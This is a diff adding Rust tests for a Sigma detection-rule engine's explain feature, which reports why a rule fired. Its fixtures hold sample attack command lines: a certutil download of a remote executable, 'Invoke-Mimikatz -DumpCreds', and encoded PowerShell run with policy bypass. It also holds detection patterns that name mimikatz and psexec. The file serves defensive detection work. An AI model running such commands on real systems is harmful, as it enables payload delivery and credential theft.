@@ -1,0 +1,180 @@
+//! `Rule::explain`: the selections that held and the (field, value) pairs that made them
+//! hold — what an analyst needs to see why a Sigma rule fired.
+
+#![allow(clippy::unwrap_used)]
+
+use serde_json::{Value, json};
+use trustpath_event::{Event, Format, Origin, SourceKind};
+use trustpath_sigma::{LoadOptions, MatchedValue, RuleSet};
+
+fn event(fields: Value) -> Event {
+    Event {
+        time: jiff::Timestamp::UNIX_EPOCH,
+        source: SourceKind::Windows,
+        format: Format::Evtx,
+        origin: Origin::file("test"),
+        fields: fields.as_object().cloned().unwrap_or_default(),
+    }
+}
+
+fn rule(body: &str) -> RuleSet {
+    let yaml = format!("title: t\nid: r1\nlogsource:\n  product: windows\n{body}\n");
+    let (set, errors) = RuleSet::from_str("test.yml", &yaml, &LoadOptions::default());
+    assert!(errors.is_empty(), "{errors:?}");
+    set
+}
+
+fn pair(selection: &str, field: &str, value: &str) -> MatchedValue {
+    MatchedValue {
+        selection: selection.into(),
+        field: field.into(),
+        value: value.into(),
+    }
+}
+
+#[test]
+fn names_the_selection_and_the_values_that_matched() {
+    let set = rule(
+        "detection:\n  selection_img:\n    Image|endswith: '\\certutil.exe'\n  selection_cli:\n    CommandLine|contains: [' -decode ', ' -urlcache ']\n  filter:\n    User: SYSTEM\n  condition: selection_img and selection_cli and not filter\nfields:\n  - CommandLine\n  - ParentImage\n  - Missing",
+    );
+    let e = event(json!({
+        "EventID": 1,
+        "Image": "C:\\Windows\\System32\\certutil.exe",
+        "CommandLine": "certutil -urlcache -f http://x/a.exe a.exe",
+        "ParentImage": "C:\\Windows\\explorer.exe",
+        "User": "alice",
+    }));
+    let rule = &set.rules[0];
+    let why = rule.explain(&e);
+    assert!(why.matched);
+    assert_eq!(why.selections, vec!["selection_img", "selection_cli"]);
+    assert_eq!(
+        why.values,
+        vec![
+            pair(
+                "selection_img",
+                "Image",
+                "C:\\Windows\\System32\\certutil.exe"
+            ),
+            pair(
+                "selection_cli",
+                "CommandLine",
+                "certutil -urlcache -f http://x/a.exe a.exe"
+            ),
+        ]
+    );
+    assert_eq!(
+        rule.output_values(&e),
+        vec![
+            (
+                "CommandLine".to_owned(),
+                "certutil -urlcache -f http://x/a.exe a.exe".to_owned()
+            ),
+            (
+                "ParentImage".to_owned(),
+                "C:\\Windows\\explorer.exe".to_owned()
+            ),
+        ]
+    );
+    // The filter held for SYSTEM: the rule does not match, and the filter is never
+    // reported as a reason.
+    let system = event(json!({
+        "Image": "C:\\Windows\\System32\\certutil.exe",
+        "CommandLine": "certutil -decode a b",
+        "User": "SYSTEM",
+    }));
+    let why = rule.explain(&system);
+    assert!(!why.matched);
+    assert!(!why.selections.contains(&"filter".to_owned()));
+}
+
+#[test]
+fn one_of_reports_only_the_selections_that_held() {
+    let set = rule(
+        "detection:\n  sel_a:\n    EventID: 4688\n  sel_b:\n    EventID: 4624\n  sel_c:\n    NewProcessName|contains: psexec\n  condition: 1 of sel_*",
+    );
+    let why = set.rules[0].explain(&event(json!({"EventID": 4688, "NewProcessName": "x"})));
+    assert!(why.matched);
+    assert_eq!(why.selections, vec!["sel_a"]);
+    assert_eq!(why.values, vec![pair("sel_a", "EventID", "4688")]);
+}
+
+#[test]
+fn keywords_name_the_field_that_contained_them() {
+    let set = rule("detection:\n  keywords:\n    - 'mimikatz'\n  condition: keywords");
+    let why = set.rules[0].explain(&event(json!({
+        "EventID": 4104,
+        "ScriptBlockText": "Invoke-Mimikatz -DumpCreds",
+        "Path": "c:\\temp\\a.ps1",
+    })));
+    assert!(why.matched);
+    assert_eq!(
+        why.values,
+        vec![pair(
+            "keywords",
+            "ScriptBlockText",
+            "Invoke-Mimikatz -DumpCreds"
+        )]
+    );
+}
+
+#[test]
+fn absence_and_all_are_shown() {
+    let set = rule(
+        "detection:\n  sel:\n    CommandLine|contains|all: ['-enc', 'bypass']\n    ParentUser: null\n  condition: sel",
+    );
+    let why = set.rules[0].explain(&event(json!({
+        "CommandLine": "powershell -ep bypass -enc AAAA",
+    })));
+    assert!(why.matched);
+    assert_eq!(
+        why.values,
+        vec![
+            pair("sel", "CommandLine", "powershell -ep bypass -enc AAAA"),
+            pair("sel", "ParentUser", "(absent)"),
+        ]
+    );
+}
+
+#[test]
+fn long_values_are_cut() {
+    let set = rule("detection:\n  sel:\n    CommandLine|contains: x\n  condition: sel");
+    let long = "x".repeat(5000);
+    let why = set.rules[0].explain(&event(json!({ "CommandLine": long })));
+    let value = &why.values[0].value;
+    assert_eq!(value.chars().count(), trustpath_sigma::MAX_VALUE_CHARS + 1);
+    assert!(value.ends_with('…'));
+}
+
+#[test]
+fn security_4688_is_explained_with_its_field_names() {
+    let yaml = "title: t\nid: r1\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  selection:\n    Image|endswith: '\\msedge.exe'\n  condition: selection\nfields:\n  - Image\n  - CommandLine\n";
+    let (set, errors) = RuleSet::from_str("pc.yml", yaml, &LoadOptions::default());
+    assert!(errors.is_empty(), "{errors:?}");
+    let e = event(json!({
+        "EventID": 4688,
+        "Channel": "Security",
+        "NewProcessName": "C:\\Edge\\msedge.exe",
+        "CommandLine": "msedge.exe --single-argument https://x",
+    }));
+    let mut hits = Vec::new();
+    set.compile().matches(&e, &mut hits);
+    assert_eq!(hits.len(), 1, "the matcher reads NewProcessName for 4688");
+    let rule = &set.rules[0];
+    let why = rule.explain(&e);
+    assert!(why.matched);
+    assert_eq!(
+        why.values,
+        vec![pair("selection", "NewProcessName", "C:\\Edge\\msedge.exe")]
+    );
+    assert_eq!(
+        rule.output_values(&e),
+        vec![
+            ("Image".to_owned(), "C:\\Edge\\msedge.exe".to_owned()),
+            (
+                "CommandLine".to_owned(),
+                "msedge.exe --single-argument https://x".to_owned()
+            ),
+        ]
+    );
+}
